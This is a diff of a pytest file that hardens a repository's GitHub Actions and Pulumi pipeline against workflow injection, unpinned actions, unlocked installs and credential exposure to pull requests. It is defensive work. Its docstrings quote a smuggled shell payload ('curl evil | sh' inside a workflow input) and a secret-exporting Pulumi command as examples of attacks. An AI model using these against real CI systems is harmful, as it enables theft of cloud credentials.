@@ -10,6 +10,7 @@ from __future__ import annotations
 import json
 import re
 import secrets
+import shutil
 import subprocess
 from pathlib import Path
 
@@ -64,27 +65,92 @@ def test_one_stack_token_opens_every_stack() -> None:
     assert "access_token:organization" not in every
 
 
+def zizmor(github: Path) -> list[tuple[str, str]]:
+    """zizmor's offline findings over a ``.github`` folder, pedantic persona: (audit, file) pairs."""
+    result = subprocess.run(
+        [
+            str(ZIZMOR),
+            "--offline",
+            "--persona=pedantic",
+            "--format",
+            "json",
+            "--no-progress",
+            str(github),
+        ],
+        capture_output=True,
+        text=True,
+        cwd=github.parent,
+    )
+    assert result.returncode in (0, 10, 11, 12, 13, 14), result.stderr
+    return sorted(
+        (f["ident"], loc["symbolic"]["key"]["Local"]["verbatim_path"])
+        for f in json.loads(result.stdout)
+        for loc in f["locations"][-1:]
+    )
+
+
 def test_workflow_input_injects_shell() -> None:
     """Attack: a caller passes ``stack: 'x"; curl evil | sh; "'`` (or an environment name with ``$(...)``);
     expanded by ``${{ }}`` inside a ``run:`` script it becomes shell code in a job holding cloud credentials.
-    zizmor (offline) judges: it must report nothing but unpinned action tags (pinned by major on purpose,
-    kept current by Dependabot)."""
-    result = subprocess.run(
-        [str(ZIZMOR), "--offline", "--format", "json", "--no-progress", str(ci.GITHUB)],
-        capture_output=True,
-        text=True,
-        cwd=ci.ROOT,
-    )
-    assert result.returncode in (0, 10, 11, 12, 13, 14), result.stderr
-    findings = json.loads(result.stdout)
-    other = sorted(
-        (f["ident"], loc["symbolic"]["key"]["Local"]["verbatim_path"])
-        for f in findings
-        for loc in f["locations"][-1:]
-        if f["ident"] != "unpinned-uses"
-    )
-    assert other == [], f"zizmor: {other}"
-    assert any(f["ident"] == "unpinned-uses" for f in findings), "zizmor audited nothing"
+    And (issue 16, item 2) an action's tag re-pointed at new code runs it with the job's role. zizmor
+    (offline) judges every such pattern: it must report nothing at all, ``unpinned-uses`` included."""
+    assert zizmor(ci.GITHUB) == []
+
+
+def test_control_zizmor_sees_an_action_pinned_by_its_tag(tmp_path: Path) -> None:
+    shutil.copytree(ci.GITHUB, tmp_path / ".github")
+    audit = tmp_path / ".github" / "workflows" / "audit.yml"
+    text = audit.read_text()
+    moved = re.sub(r"actions/checkout@[0-9a-f]{40} # v[\d.]+", "actions/checkout@v6", text)
+    assert moved != text
+    audit.write_text(moved)
+    assert ("unpinned-uses", ".github/workflows/audit.yml") in [
+        (ident, str(Path(path).relative_to(tmp_path)) if Path(path).is_absolute() else path)
+        for ident, path in zizmor(tmp_path / ".github")
+    ]
+
+
+INSTALLERS = re.compile(r"(pip3?|uv pip) (install|sync)\b")
+
+
+def unlocked_installs(texts: dict[str, str]) -> list[str]:
+    """Each install command (pip or uv, line continuations joined) that is not hash-checked from a lock."""
+    found = []
+    for name, text in texts.items():
+        for command in re.sub(r"\s*\\\n\s*", " ", text).splitlines():
+            if not INSTALLERS.search(command) or command.lstrip().startswith("#"):
+                continue
+            files = re.findall(r"(?:-r\s+|\s)(\S*requirements[\w.-]*|\"\$file\")", command)
+            hashed = "--require-hashes" in command
+            locked = files and all(
+                f.endswith(".lock")
+                or f in ("requirements-scan.txt", "requirements-uv.txt", '"$file"')
+                for f in (Path(f).name if "/" in f and not f.startswith('"') else f for f in files)
+            )
+            if not (hashed and locked):
+                found.append(f"{name}: {command.strip()}")
+    return found
+
+
+def _install_texts() -> dict[str, str]:
+    paths = [ci.ROOT / "Makefile", ci.ROOT / ".ci" / "run", *sorted(ci.GITHUB.rglob("*.yml"))]
+    return {str(p.relative_to(ci.ROOT)): p.read_text() for p in paths}
+
+
+def test_a_compromised_release_is_installed_by_an_unlocked_install() -> None:
+    """Attack (issue 16, item 2): publish a new release of any dependency within our ranges (or of the policy
+    pack's); every job that installs from a range takes it, prod deploy included. Every install in make,
+    .ci/run and the workflows must be hash-checked, from a lock file."""
+    assert unlocked_installs(_install_texts()) == []
+
+
+def test_control_an_install_from_ranges_is_seen() -> None:
+    texts = {"x.yml": "      run: |\n        pip install --quiet -r policy/requirements.txt\n"}
+    assert unlocked_installs(texts) == ["x.yml: pip install --quiet -r policy/requirements.txt"]
+    texts = {"Makefile": "\t$(UV) pip sync --python $(PY) \\\n\t\trequirements-dev.lock\n"}
+    assert unlocked_installs(texts) == [
+        "Makefile: $(UV) pip sync --python $(PY) requirements-dev.lock"
+    ]
 
 
 @pytest.mark.parametrize(
@@ -106,14 +172,17 @@ def test_control_a_pull_request_job_given_prod_is_seen(tmp_path: Path) -> None:
     for path in ci.WORKFLOW_DIR.glob("*.yml"):
         (tmp_path / path.name).write_text(path.read_text())
     pr = tmp_path / "pull-request.yml"
-    widened = pr.read_text().replace(
-        "      stack: dev\n      command: preview\n      environment: preview-dev",
-        "      stack: ${{ matrix.stack }}\n      command: preview\n"
-        "      environment: preview-${{ matrix.stack }}\n"
-        "    strategy:\n      matrix:\n        stack: [dev, prod]",
+    marker = "  secret-scan:\n"
+    assert marker in pr.read_text()
+    pr.write_text(
+        pr.read_text().replace(
+            marker,
+            "  preview:\n    uses: ./.github/workflows/pulumi-stack.yml\n    with:\n"
+            "      stack: ${{ matrix.stack }}\n      command: preview\n"
+            "      environment: preview-${{ matrix.stack }}\n"
+            "    strategy:\n      matrix:\n        stack: [dev, prod]\n" + marker,
+        )
     )
-    assert widened != pr.read_text()
-    pr.write_text(widened)
     exposed = {
         (r.job, tuple(sorted(r.environments)))
         for r in ci.reaches(tmp_path)
@@ -190,3 +259,144 @@ def test_guides_scanner_is_red_on_day_one() -> None:
         command += ["--config", str(config)]
     result = subprocess.run([*command, "."], cwd=ci.ROOT, capture_output=True, text=True)
     assert result.returncode == 0, result.stderr.strip().splitlines()[-1:]
+
+
+# Issue 16, items 2, 3 and 10: what a pull request's unreviewed code can hold, and who writes its summary.
+
+
+def _steps(workflow: str, job: str) -> list[dict]:
+    return ci.workflows()[workflow]["jobs"][job].get("steps", [])
+
+
+def credentialed(directory: Path = ci.WORKFLOW_DIR) -> list[str]:
+    """Every job a pull request starts (directly or through a called workflow) that can obtain a credential:
+    an OIDC token (``id-token: write``, the door to a cloud role and a Pulumi token), a stored secret, a
+    GitHub environment (its variables name the roles), or a write-scoped ``GITHUB_TOKEN``."""
+    found = []
+    for name, workflow in ci.workflows(directory).items():
+        if not set(ci.triggers(workflow)) & ci.UNREVIEWED_TRIGGERS:
+            continue
+        top = workflow.get("permissions")
+        for job_name, job in workflow["jobs"].items():
+            own = job.get("permissions", top)
+            text = json.dumps(job)
+            if own is None:
+                why = ["no permissions: the repository's default token, possibly write"]
+            elif isinstance(own, str):
+                why = [] if own == "read-all" else [f"permissions: {own}"]
+            else:
+                why = [f"{k}: {v}" for k, v in own.items() if v == "write"]
+            if "environment" in job:
+                why.append(f"environment {job['environment']}")
+            if re.search(r"\$\{\{\s*secrets\.", text) or job.get("secrets"):
+                why.append("a stored secret")
+            if str(job.get("uses", "")).startswith("./.github/workflows/"):
+                why.append(f"calls {job['uses']}")
+            if why:
+                found.append(f"{name}:{job_name}: {', '.join(why)}")
+    return found
+
+
+def test_pull_request_branch_decrypts_dev_with_a_pulumi_token() -> None:
+    """Attack (issue 16, item 3): open a pull request from a branch of this repository whose Makefile runs
+    ``pulumi stack export --show-secrets``: the dev preview job held a Pulumi team token (Stack Read includes
+    decrypt) and a dev role. No job a pull request starts may hold any credential."""
+    assert credentialed() == []
+
+
+def test_control_a_pull_request_job_with_an_oidc_token_is_seen(tmp_path: Path) -> None:
+    for path in ci.WORKFLOW_DIR.glob("*.yml"):
+        (tmp_path / path.name).write_text(path.read_text())
+    pr = tmp_path / "pull-request.yml"
+    text = pr.read_text()
+    marker = "  secret-scan:\n"
+    assert marker in text
+    pr.write_text(
+        text.replace(
+            marker,
+            "  sneaky:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n"
+            "    steps:\n      - run: make test\n" + marker,
+        )
+    )
+    assert credentialed(tmp_path) == ["pull-request.yml:sneaky: id-token: write"]
+    pr.write_text(
+        text.replace(
+            marker,
+            "  sneaky:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"
+            "        env:\n          TOKEN: ${{ secrets.PULUMI_TOKEN }}\n" + marker,
+        )
+    )
+    assert credentialed(tmp_path) == ["pull-request.yml:sneaky: a stored secret"]
+
+
+def test_pull_request_rewrites_its_own_access_diff() -> None:
+    """Attack (issue 16, item 10): a branch edits tools/access_diff.py (or the plan, or the setup action) so
+    that its summary says "no access change" while it adds a reader. The job that writes the summary must run
+    the base branch's tools (the workspace is the base commit) and read the head only as data: checked out
+    into a folder of its own, without a token, never executed, planned through ``--project-dir``."""
+    steps = _steps("pull-request.yml", "offline-plan")
+    checkouts = [s for s in steps if str(s.get("uses", "")).startswith("actions/checkout@")]
+    workspace = [s for s in checkouts if "path" not in (s.get("with") or {})]
+    head = [s for s in checkouts if (s.get("with") or {}).get("path")]
+    assert [s["with"].get("ref") for s in workspace] == [
+        "${{ github.event.pull_request.base.sha }}"
+    ], "the workspace (tools, setup action) is the base commit"
+    assert [s["with"].get("ref") for s in head] == ["${{ github.event.pull_request.head.sha }}"]
+    assert all(s["with"]["persist-credentials"] is False for s in checkouts)
+    data = head[0]["with"]["path"]
+    runs = [str(s.get("run", "")) for s in steps]
+    uses = [str(s.get("uses", "")) for s in steps]
+    assert not [u for u in uses if data in u], "no action of the head is used"
+    heads_code = re.compile(
+        rf"(cd\s+\"?{re.escape(data)}|{re.escape(data)}/[\w./-]*\.(py|sh)\b|{re.escape(data)}/\.venv"
+        rf"|{re.escape(data)}/Makefile|make\s+-C\s+{re.escape(data)}|git worktree)"
+    )
+    assert [r for r in runs if heads_code.search(r)] == [], "no step runs the head's code"
+    plans = [r for r in runs if "tools.plan" in r]
+    assert plans and all("--project-dir" in r for r in plans if "plan-head" in r), plans
+
+
+def test_the_base_tools_plan_the_heads_files_without_running_its_code(
+    tmp_path: Path, aws_dev_plan_dir: Path
+) -> None:
+    """The same attack, run: the head's folder carries a ``__main__.py`` and a ``tools/plan.py`` that would
+    leave a mark, and a catalog that drops backend's OTP_PEPPER. Planned with ``--project-dir``, the access
+    change is reported and neither file of the head ran."""
+    import yaml
+
+    from tools import plan
+
+    head = tmp_path / "head"
+    (head / "tools").mkdir(parents=True)
+    for name in ("Pulumi.yaml", "Pulumi.dev.yaml"):
+        (head / name).write_text((ci.ROOT / name).read_text())
+    catalog = yaml.safe_load((ci.ROOT / "catalog.yaml").read_text())
+    del catalog["services"]["backend"]["secrets"]["OTP_PEPPER"]
+    (head / "catalog.yaml").write_text(yaml.safe_dump(catalog))
+    mark = tmp_path / "head-code-ran"
+    evil = f"open({str(mark)!r}, 'w').write('ran')\n"
+    (head / "__main__.py").write_text(evil)
+    (head / "tools" / "__init__.py").write_text(evil)
+    (head / "tools" / "plan.py").write_text(evil)
+    out = tmp_path / "plan-head-dev"
+    code = plan.main(
+        ["--stack", "dev", "--project-dir", str(head), "--out", str(out),
+         "--diff-against", str(aws_dev_plan_dir)]
+    )  # fmt: skip
+    assert code == 0
+    assert not mark.exists(), "the head's code ran"
+    diff = (out / "access-diff.md").read_text()
+    assert "OTP_PEPPER" in diff
+
+
+def test_a_head_catalog_outside_its_folder_is_refused(tmp_path: Path, capsys) -> None:
+    from tools import plan
+
+    head = tmp_path / "head"
+    head.mkdir()
+    (head / "Pulumi.yaml").write_text(
+        (ci.ROOT / "Pulumi.yaml").read_text().replace("default: catalog.yaml", "default: ../x.yaml")
+    )
+    (head / "Pulumi.dev.yaml").write_text((ci.ROOT / "Pulumi.dev.yaml").read_text())
+    assert plan.main(["--stack", "dev", "--project-dir", str(head)]) == 2
+    assert "lies outside the project directory" in capsys.readouterr().err
